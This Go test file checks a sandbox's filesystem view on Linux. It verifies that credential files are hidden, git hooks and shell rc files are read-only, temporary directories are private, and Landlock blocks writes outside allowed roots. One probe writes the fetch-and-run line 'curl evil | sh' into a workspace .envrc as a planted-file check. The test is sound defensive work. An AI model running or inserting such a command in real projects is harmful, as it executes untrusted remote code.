//go:build linux

package fsview

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// requireRoot skips a test that needs root, or fails it when
// SANDGATE_REQUIRE_PRIVILEGED is set (as in CI).
func requireRoot(t testing.TB) {
	t.Helper()
	if os.Geteuid() == 0 {
		return
	}
	if os.Getenv("SANDGATE_REQUIRE_PRIVILEGED") != "" {
		t.Fatal("this test needs root (SANDGATE_REQUIRE_PRIVILEGED is set, so it may not skip)")
	}
	t.Skip("needs root: creates user and mount namespaces for other uids")
}

// fixture is a home directory with a project (a git repository) as the
// workspace, a directory outside every writable root, and the paths of a
// run's private directories, under one temporary directory.
type fixture struct {
	base, home, ws, outside, tmpDir, freshHome, hostTmp string
	exe                                                 string // a copy of the test binary every uid can run
}

func newFixture(t testing.TB, layout string, wsOwner, homeOwner int) *fixture {
	t.Helper()
	mkTemp := func(dir string) string {
		d, err := os.MkdirTemp(dir, "sandgate-fsview-test-")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(d) })
		if err := os.Chmod(d, 0o755); err != nil {
			t.Fatal(err)
		}
		return d
	}
	// The home directory and a directory outside every writable root are
	// not under /tmp (it is private in the view); the workspace is in the
	// home directory ("home") or, as in CI checkouts, under /tmp ("ci").
	base := mkTemp("/var/lib")
	f := &fixture{base: base, home: filepath.Join(base, "home"), outside: filepath.Join(base, "outside"),
		freshHome: filepath.Join(base, "sandbox-home")}
	f.ws = filepath.Join(f.home, "proj")
	tmpBase := mkTemp("/tmp")
	f.tmpDir = filepath.Join(tmpBase, "tmpdir")
	if layout == "ci" {
		f.ws = filepath.Join(tmpBase, "checkout")
	}
	files := map[string]string{
		"home/.bashrc": "orig bashrc\n", "home/.profile": "orig profile\n",
		"home/.ssh/id_ed25519": "SECRET KEY\n", "home/.ssh/known_hosts": "known host\n",
		"home/.netrc": "machine x password SECRET\n", "home/.aws/credentials": "SECRET\n",
		"home/.config/sandgate/config.toml": "[network]\n", "home/cache.txt": "cache\n",
		"home/old.txt": "old\n", "home/.npm/_cacache/index": "i\n",
		"WS/main.go": "package main\n", "WS/.bashrc": "ws bashrc\n",
		"WS/sandgate.toml": "[network]\n", "WS/evil": "evil\n", "WS/audit.jsonl": "",
		"WS/.git/HEAD": "ref: refs/heads/main\n", "WS/.git/config": "[core]\n\tbare = false\n",
		"WS/.git/hooks/pre-commit": "#!/bin/sh\nexit 0\n", "WS/.git/objects/.keep": "",
		"WS/.git/refs/.keep": "", "outside/file.txt": "outside\n",
	}
	for name, content := range files {
		p := filepath.Join(base, name)
		if rest, ok := strings.CutPrefix(name, "WS/"); ok {
			p = filepath.Join(f.ws, rest)
		}
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(f.freshHome, 0o755); err != nil {
		t.Fatal(err)
	}
	f.exe = filepath.Join(base, "bin", "fsview.test")
	copyExecutable(t, f.exe)
	chown := func(root string, uid int) {
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err == nil {
				err = os.Lchown(p, uid, uid)
			}
			if err != nil {
				t.Fatal(err)
			}
			return nil
		})
	}
	chown(f.home, homeOwner)
	chown(f.outside, homeOwner)
	chown(f.ws, wsOwner)
	// A file in the host's /tmp that no run may see.
	hostTmp, err := os.CreateTemp("/tmp", "fsview-host-file-")
	if err != nil {
		t.Fatal(err)
	}
	hostTmp.Close()
	f.hostTmp = hostTmp.Name()
	t.Cleanup(func() { os.Remove(f.hostTmp) })
	return f
}

// copyExecutable copies the test binary to dst (mode 0755): the go
// command builds it in a directory only root may enter.
func copyExecutable(t testing.TB, dst string) {
	t.Helper()
	src, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, b, 0o755); err != nil {
		t.Fatal(err)
	}
}

// snapshot records every file under the fixture (type, mode, content) and
// the system files a run must not change.
func (f *fixture) snapshot(t *testing.T) map[string]string {
	t.Helper()
	snap := map[string]string{}
	walk := func(root string) {
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				t.Fatal(err)
			}
			fi, err := os.Lstat(p)
			if err != nil {
				t.Fatal(err)
			}
			v := fi.Mode().String()
			if fi.Mode().IsRegular() {
				b, _ := os.ReadFile(p)
				v += " " + string(b)
			}
			snap[p] = v
			return nil
		})
	}
	walk(f.base)
	walk(f.ws)
	// /etc/passwd is left out: other packages' tests add and remove
	// users while this one runs, and the probe inside the view already
	// proves the open for writing fails there.
	for _, p := range []string{"/etc/hosts", "/etc/resolv.conf"} {
		b, _ := os.ReadFile(p)
		snap[p] = string(b)
	}
	return snap
}

// profile is the fixture's default profile for a shape.
func (f *fixture) profile(identity bool) Profile {
	pr := Profile{
		Mode: ModeWorkspace, Workspace: f.ws, Home: f.home, TmpDir: f.tmpDir,
		Unhide:      []string{"~/.ssh/known_hosts"},
		ConfigPaths: []string{filepath.Join(f.home, ".config/sandgate"), filepath.Join(f.ws, "sandgate.toml")},
		Executable:  f.exe, AuditFile: filepath.Join(f.ws, "audit.jsonl"),
	}
	if identity {
		pr.FreshHome, pr.Owner = f.freshHome, &Owner{UID: 65534, GID: 65534}
	}
	return pr
}

// shape is how the view is applied: as the netns backend's init (in a
// user namespace, as root or as another user) or as the identity
// backend's (real root in a mount namespace, the command as nobody).
type shape struct {
	name     string
	uid      int // the command's uid, owner of the workspace
	identity bool
}

var shapes = []shape{{"netns-root", 0, false}, {"netns-user", 4242, false}, {"identity", 65534, true}}

func (s shape) attr() *syscall.SysProcAttr {
	if s.identity {
		return &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWNS, Pdeathsig: syscall.SIGKILL}
	}
	a := &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: s.uid, HostID: s.uid, Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: s.uid, HostID: s.uid, Size: 1}},
		Pdeathsig:   syscall.SIGKILL,
	}
	if s.uid != 0 {
		a.Credential = &syscall.Credential{Uid: uint32(s.uid), Gid: uint32(s.uid), NoSetGroups: true}
		a.AmbientCaps = []uintptr{unix.CAP_SYS_ADMIN, unix.CAP_SETPCAP, unix.CAP_DAC_OVERRIDE}
	}
	return a
}

// child is a running child: it applies a plan, then checks.
type child struct {
	cmd     *exec.Cmd
	stdin   io.WriteCloser
	lines   chan string
	stderr  strings.Builder
	mu      sync.Mutex
	results []result
	done    chan struct{}
}

func startChild(t testing.TB, exe string, s shape, p *Plan, checks []check) *child {
	t.Helper()
	pj, err := p.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	cj, _ := json.Marshal(checks)
	c := &child{lines: make(chan string, 1), done: make(chan struct{})}
	c.cmd = exec.Command(exe)
	c.cmd.Env = append(os.Environ(), childEnv+"=apply", planEnv+"="+base64.StdEncoding.EncodeToString(pj), checksEnv+"="+string(cj))
	if s.identity {
		c.cmd.Env = append(c.cmd.Env, runAsEnv+"="+strconv.Itoa(s.uid)+":"+strconv.Itoa(s.uid))
	}
	c.cmd.SysProcAttr = s.attr()
	c.cmd.Stderr = &syncWriter{b: &c.stderr, mu: &c.mu}
	if c.stdin, err = c.cmd.StdinPipe(); err != nil {
		t.Fatal(err)
	}
	out, err := c.cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := c.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.cmd.Process.Kill(); <-c.done })
	go func() {
		defer close(c.done)
		sc := bufio.NewScanner(out)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			var r result
			if json.Unmarshal(sc.Bytes(), &r) == nil && r.Op == "pause" {
				c.lines <- "ready"
				continue
			}
			c.mu.Lock()
			c.results = append(c.results, r)
			c.mu.Unlock()
		}
		c.cmd.Wait()
	}()
	return c
}

type syncWriter struct {
	b  *strings.Builder
	mu *sync.Mutex
}

func (w *syncWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.b.Write(p)
}

// waitReady waits until the child paused.
func (c *child) waitReady(t testing.TB) {
	t.Helper()
	select {
	case <-c.lines:
	case <-c.done:
		t.Fatalf("child ended before pausing: %s", c.errOutput())
	case <-time.After(30 * time.Second):
		t.Fatal("child did not pause")
	}
}

func (c *child) errOutput() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.stderr.String()
}

// wait waits for the child's end and returns its results and apply time.
func (c *child) wait(t testing.TB) ([]result, time.Duration) {
	t.Helper()
	c.stdin.Close()
	select {
	case <-c.done:
	case <-time.After(60 * time.Second):
		t.Fatal("child did not finish")
	}
	stderr := c.errOutput()
	var ns int64
	for _, l := range strings.Split(stderr, "\n") {
		if v, ok := strings.CutPrefix(l, "apply-ns "); ok {
			ns, _ = strconv.ParseInt(v, 10, 64)
		}
	}
	if code := c.cmd.ProcessState.ExitCode(); code != 0 || ns == 0 {
		t.Fatalf("child exited %d: %s", code, stderr)
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.results, time.Duration(ns)
}

// probe is a check and the results it may give ("ok" or errno names);
// data, when set, is what a read or list must give.
type probe struct {
	check
	want []string
	data *string
}

func str(s string) *string { return &s }

func p(op, path string, want ...string) probe {
	return probe{check: check{Op: op, Path: path}, want: want}
}

func pArg(op, path, arg string, want ...string) probe {
	return probe{check: check{Op: op, Path: path, Arg: arg}, want: want}
}

func pData(op, path, data string) probe {
	return probe{check: check{Op: op, Path: path}, want: []string{"ok"}, data: &data}
}

// verify compares results with the probes, in order.
func verify(t *testing.T, probes []probe, results []result) {
	t.Helper()
	if len(results) != len(probes) {
		t.Fatalf("%d results for %d probes: %+v", len(results), len(probes), results)
	}
	for i, pr := range probes {
		r := results[i]
		if !slices.Contains(pr.want, r.Result) {
			t.Errorf("%s %s: %s, want %s", pr.Op, pr.Path, r.Result, strings.Join(pr.want, " or "))
		}
		if pr.data != nil && r.Data != *pr.data {
			t.Errorf("%s %s: read %q, want %q", pr.Op, pr.Path, r.Data, *pr.data)
		}
	}
}

func checksOf(probes []probe) []check {
	var cs []check
	for _, pr := range probes {
		cs = append(cs, pr.check)
	}
	return cs
}

// refused are the errors of a write the view refuses: a read-only mount
// (EROFS), Landlock or the file's permissions (EACCES, EPERM), a mount
// point that cannot be renamed or removed (EBUSY), a rename across mounts
// (EXDEV).
var refused = []string{"EROFS", "EACCES", "EPERM", "EBUSY", "EXDEV"}

// viewProbes are the checks every shape must pass.
func viewProbes(f *fixture, s shape) []probe {
	ws, home := f.ws, f.home
	roErr := []string{"EROFS"}
	if s.uid != 0 {
		roErr = []string{"EROFS", "EACCES"} // DAC may refuse first
	}
	pr := []probe{
		// The workspace is writable, for real.
		pArg("create", ws+"/new.txt", "made in the sandbox\n", "ok"),
		pArg("append", ws+"/main.go", "// appended\n", "ok"),
		pData("read", ws+"/new.txt", "made in the sandbox\n"),
		// Outside the writable roots nothing is writable.
		p("open-write", f.outside+"/file.txt", roErr...),
		pArg("create", f.outside+"/new", "x", roErr...),
		p("chmod", f.outside+"/file.txt", append(roErr, "EPERM")...),
		p("open-write", "/etc/hosts", roErr...),
		p("open-write", "/etc/passwd", roErr...),
		p("mkdir", "/usr/fsview-test", roErr...),
		// Hidden credentials read as empty; one is unhidden.
		p("read", home+"/.ssh/id_ed25519", "ENOENT"),
		pData("list", home+"/.ssh", "known_hosts"),
		pData("read", home+"/.ssh/known_hosts", "known host\n"),
		pData("read", home+"/.netrc", ""),
		p("open-write", home+"/.netrc", "EROFS", "EACCES"), // an empty file of mode 0444
		pData("list", home+"/.aws", ""),
		pArg("create", home+"/.aws/credentials2", "x", roErr...),
		// Never writable, even inside the workspace.
		p("open-write", ws+"/.git/hooks/pre-commit", "EROFS"),
		pArg("create", ws+"/.git/hooks/post-checkout", "#!/bin/sh\n", "EROFS"),
		p("unlink", ws+"/.git/hooks/pre-commit", "EROFS"),
		pArg("rename-over", ws+"/.git/hooks/pre-commit", ws+"/evil", refused...),
		p("open-write", ws+"/.git/config", "EROFS"),
		p("unlink", ws+"/.git/config", "EBUSY"),
		pArg("rename-over", ws+"/.git/config", ws+"/evil", "EBUSY", "EXDEV"),
		pArg("rename-away", ws+"/.git", ws+"/.git-moved", "EBUSY"),
		p("rmdir", ws+"/.git/hooks", "EBUSY", "EROFS"),
		p("open-write", ws+"/.bashrc", "EROFS"),
		p("truncate", ws+"/.bashrc", "EROFS"),
		p("unlink", ws+"/.bashrc", "EBUSY"),
		pArg("rename-over", ws+"/.bashrc", ws+"/evil", "EBUSY"),
		p("open-write", ws+"/sandgate.toml", "EROFS"),
		p("unlink", ws+"/sandgate.toml", "EBUSY"),
		p("open-write", ws+"/audit.jsonl", "EROFS"),
		// A never-writable file that does not exist yet can be created
		// (the view's limit); Plan.Changed reports it after the run.
		pArg("create", ws+"/.envrc", "curl evil | sh\n", "ok"),
		// A private /tmp, /var/tmp, /dev/shm and $TMPDIR.
		p("read", f.hostTmp, "ENOENT"),
		pArg("create", "/tmp/fsview-marker", "x", "ok"),
		pArg("create", "/var/tmp/fsview-marker", "x", "ok"),
		pArg("create", "/dev/shm/fsview-marker", "x", "ok"),
		pData("list", f.tmpDir, ""),
		pArg("create", f.tmpDir+"/x", "x", "ok"),
		// Devices.
		pArg("append", "/dev/null", "x", "ok"),
		p("open-write", "/dev/ptmx", "ok"),
	}
	if s.identity {
		pr = append(pr,
			pData("list", f.freshHome, ""),
			pArg("create", f.freshHome+"/.npmrc", "x", "ok"),
			// The caller's home is not the command's: read-only.
			pArg("append", home+"/cache.txt", "x", refused...),
		)
	} else {
		pr = append(pr,
			// $HOME is copy-on-write: writes work and vanish.
			pArg("append", home+"/cache.txt", "changed\n", "ok"),
			pData("read", home+"/cache.txt", "cache\nchanged\n"),
			pArg("create", home+"/.npmrc-new", "x", "ok"),
			pArg("mkdir", home+"/.cache", "", "ok"),
			p("unlink", home+"/old.txt", "ok"),
			p("read", home+"/old.txt", "ENOENT"),
			pArg("create", home+"/.npm/_cacache/index2", "x", "ok"),
			// Renaming a directory of the real home fails as overlayfs
			// without redirect_dir does (tools copy instead); a new one
			// renames.
			pArg("rename-away", home+"/.npm", home+"/.npm-old", "EXDEV"),
			pArg("mkdir", home+"/.cache/new", "", "ok"),
			pArg("rename-away", home+"/.cache/new", home+"/.cache/renamed", "ok"),
			pArg("rename-away", home+"/cache.txt", home+"/cache-moved.txt", "ok"),
			pData("read", home+"/cache-moved.txt", "cache\nchanged\n"),
			p("open-write", home+"/.bashrc", "EROFS"),
			p("open-write", home+"/.config/sandgate/config.toml", "EROFS"),
		)
	}
	return pr
}

func TestApplyView(t *testing.T) {
	requireRoot(t)
	for _, layout := range []string{"home", "ci"} {
		for _, s := range shapes {
			t.Run(layout+"/"+s.name, func(t *testing.T) { testApplyView(t, layout, s) })
		}
	}
}

func testApplyView(t *testing.T, layout string, s shape) {
	homeOwner := s.uid
	if s.identity {
		homeOwner = 0
	}
	f := newFixture(t, layout, s.uid, homeOwner)
	plan, err := NewPlan(f.profile(s.identity), OSFS{})
	if err != nil {
		t.Fatal(err)
	}
	before := f.snapshot(t)
	probes := viewProbes(f, s)
	c := startChild(t, f.exe, s, plan, checksOf(probes))
	results, took := c.wait(t)
	t.Logf("applying %d operations took %v", len(plan.Ops), took)
	verify(t, probes, results)
	// On the host: only the workspace changed, as the command
	// wrote it.
	after := f.snapshot(t)
	wantChanged := map[string]bool{f.ws + "/new.txt": true, f.ws + "/main.go": true, f.ws + "/.envrc": true}
	for k, v := range after {
		if before[k] != v && !wantChanged[k] {
			t.Errorf("host copy of %s changed: %q -> %q", k, before[k], v)
		}
	}
	for k := range before {
		if _, ok := after[k]; !ok {
			t.Errorf("host copy of %s is gone", k)
		}
	}
	if got := after[f.ws+"/main.go"]; !strings.HasSuffix(got, "package main\n// appended\n") {
		t.Errorf("workspace write did not reach the host: %q", got)
	}
	if ch := plan.Changed(OSFS{}); !slices.Equal(ch, []string{f.ws + "/.envrc"}) {
		t.Errorf("Changed after the run = %v, want the new .envrc", ch)
	}
	if _, err := os.Stat("/tmp/fsview-marker"); err == nil {
		t.Error("the private /tmp's file reached the host's /tmp")
	}
}

// TestApplyConcurrentRuns: two runs at once share no private directory.
func TestApplyConcurrentRuns(t *testing.T) {
	requireRoot(t)
	for _, s := range []shape{shapes[1], shapes[2]} {
		t.Run(s.name, func(t *testing.T) {
			homeOwner := s.uid
			if s.identity {
				homeOwner = 0
			}
			f := newFixture(t, "home", s.uid, homeOwner)
			plan, err := NewPlan(f.profile(s.identity), OSFS{})
			if err != nil {
				t.Fatal(err)
			}
			dirs := []string{"/tmp", "/dev/shm", f.tmpDir}
			if s.identity {
				dirs = append(dirs, f.freshHome)
			} else {
				dirs = append(dirs, f.home)
			}
			var children []*child
			for _, name := range []string{"first", "second"} {
				var probes []probe
				for _, d := range dirs {
					probes = append(probes, pArg("create", d+"/marker-"+name, name, "ok"))
				}
				probes = append(probes, p("pause", ""))
				for _, d := range dirs {
					probes = append(probes, p("list", d, "ok"))
				}
				children = append(children, startChild(t, f.exe, s, plan, checksOf(probes)))
			}
			for _, c := range children {
				c.waitReady(t)
			}
			// Both have written their markers; each lists its own.
			for i, c := range children {
				results, _ := c.wait(t)
				other := []string{"second", "first"}[i]
				for _, r := range results {
					if r.Op == "create" && r.Result != "ok" {
						t.Errorf("%s: %s", r.Path, r.Result)
					}
					if r.Op != "list" {
						continue
					}
					names := strings.Split(r.Data, ",")
					if slices.Contains(names, "marker-"+other) || !slices.Contains(names, "marker-"+[]string{"first", "second"}[i]) {
						t.Errorf("run %d lists %s as %q", i, r.Path, r.Data)
					}
				}
			}
			for _, d := range dirs {
				if m, _ := filepath.Glob(filepath.Join(d, "marker-*")); len(m) > 0 {
					t.Errorf("markers reached the host: %v", m)
				}
			}
		})
	}
}

// TestLandlockRuleset checks the Landlock layer on its own: no mounts,
// writes allowed below one directory and to one file only.
func TestLandlockRuleset(t *testing.T) {
	requireRoot(t)
	if _, err := LandlockABI(); err != nil {
		t.Fatalf("Landlock must be available here: %v", err)
	}
	f := newFixture(t, "home", 0, 0)
	dirA, dirB, file := f.ws, f.outside, filepath.Join(f.home, "cache.txt")
	plan := &Plan{Mode: ModeWorkspace, Writable: []string{dirA, file, "/dev/null"}}
	probes := []probe{
		pArg("create", dirA+"/x", "x", "ok"),
		pArg("mkdir", dirA+"/d", "", "ok"),
		pArg("append", file, "x", "ok"),
		pArg("create", dirB+"/x", "x", "EACCES"),
		p("open-write", dirB+"/file.txt", "EACCES"),
		p("truncate", dirB+"/file.txt", "EACCES"),
		p("unlink", dirB+"/file.txt", "EACCES"),
		pArg("mkdir", dirB+"/d", "", "EACCES"),
		pArg("symlink", dirB+"/l", "/etc/passwd", "EACCES"),
		pArg("rename-away", dirA+"/x", dirB+"/x", "EACCES", "EXDEV"),
		pArg("create", f.home+"/sibling", "x", "EACCES"),
		pArg("append", "/dev/null", "x", "ok"),
		p("open-write", "/dev/zero", "EACCES"),
	}
	c := startChild(t, f.exe, shapes[0], plan, checksOf(probes))
	results, _ := c.wait(t)
	verify(t, probes, results)
}

// BenchmarkApply measures what applying the default view costs, in a
// child in new user and mount namespaces: ns/apply is Apply plus the
// Landlock ruleset, as the child measured it (the rest of ns/op is
// starting the child).
func BenchmarkApply(b *testing.B) {
	requireRoot(b)
	f := newFixture(b, "home", shapes[1].uid, shapes[1].uid)
	plan, err := NewPlan(f.profile(false), OSFS{})
	if err != nil {
		b.Fatal(err)
	}
	var total time.Duration
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		c := startChild(b, f.exe, shapes[1], plan, nil)
		_, took := c.wait(b)
		total += took
	}
	b.ReportMetric(float64(total.Nanoseconds())/float64(b.N), "ns/apply")
	b.ReportMetric(float64(len(plan.Ops)), "ops")
}
